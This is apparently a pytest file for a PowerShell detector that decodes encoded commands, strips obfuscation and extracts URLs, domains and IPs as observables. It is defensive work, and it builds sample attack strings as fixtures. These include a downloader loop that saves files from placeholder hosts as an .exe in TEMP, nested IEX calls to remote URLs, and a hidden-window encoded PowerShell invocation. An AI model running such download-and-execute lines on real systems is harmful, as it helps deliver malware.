"""PowerShell decoding: -enc under any abbreviation, obfuscation, URL lists, observables."""

from __future__ import annotations

import base64

import pytest

from sekimori.detect.powershell import (
    analyze,
    decode_encoded_commands,
    deobfuscate,
    extract_observables,
    urls,
)
from sekimori.model import Observable

HARMLESS = "Write-Output 'detector-test'"
ENCODED = base64.b64encode(HARMLESS.encode("utf-16-le")).decode()
LOADER = (
    "$u='http://a.example.com/wp/@http://b.example.net/x/@https://198.51.100.7/y/'.Split('@');"
    "foreach($x in $u){(New-Object Net.WebClient).DownloadFile($x,$env:TEMP+'\\1.exe')}"
)


@pytest.mark.parametrize(
    "flag", ["-e", "-ec", "-en", "-enc", "-EnCoDeD", "-encodedcommand", "/enc", "\u2013enc"]
)
def test_encoded_command_any_abbreviation(flag: str) -> None:
    assert decode_encoded_commands(f"powershell.exe -NoP {flag} {ENCODED}") == [HARMLESS]


def test_quoted_and_colon_forms() -> None:
    assert decode_encoded_commands(f'powershell -enc "{ENCODED}"') == [HARMLESS]
    assert decode_encoded_commands(f"pwsh -EncodedCommand:{ENCODED}") == [HARMLESS]


def test_not_base64_text_is_ignored() -> None:
    assert decode_encoded_commands("powershell -ExecutionPolicy Bypass -File a.ps1") == []
    assert decode_encoded_commands("powershell -enc AAAAAAAAAAAAAAAA") == []


def test_nested_from_base64_string() -> None:
    inner = base64.b64encode(b"IEX 'http://c.example.org/z'").decode()
    outer = f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}'))"
    encoded = base64.b64encode(outer.encode("utf-16-le")).decode()
    decoded = decode_encoded_commands(f"powershell -enc {encoded}")
    assert decoded == [outer, "IEX 'http://c.example.org/z'"]


def test_deobfuscate_carets_backticks_and_concatenation() -> None:
    assert deobfuscate("p^o^w^e^r^s^h^e^l^l") == "powershell"
    assert deobfuscate("I`E`X (New-Object Net.`WebClient)") == "IEX (New-Object Net.WebClient)"
    assert deobfuscate("'ht'+'tp://a.exa'+'mple.com/'") == "'http://a.example.com/'"
    assert deobfuscate('"ht"+"tp:"') == '"http:"'


def test_url_lists_are_split() -> None:
    assert urls(LOADER) == [
        "http://a.example.com/wp/",
        "http://b.example.net/x/",
        "https://198.51.100.7/y/",
    ]


def test_observables_from_an_encoded_loader() -> None:
    encoded = base64.b64encode(LOADER.encode("utf-16-le")).decode()
    result = analyze(f"cmd /c p^owershell -w hidden -en {encoded}")
    assert result.decoded == (LOADER,)
    assert Observable("url", "http://a.example.com/wp/") in result.observables
    assert Observable("domain", "b.example.net") in result.observables
    assert Observable("ip", "198.51.100.7") in result.observables


def test_bare_ips_and_versions() -> None:
    found = extract_observables(["connect 203.0.113.9 then 10.0.17763.1 and 999.1.1.1"])
    assert found == (Observable("ip", "203.0.113.9"),)
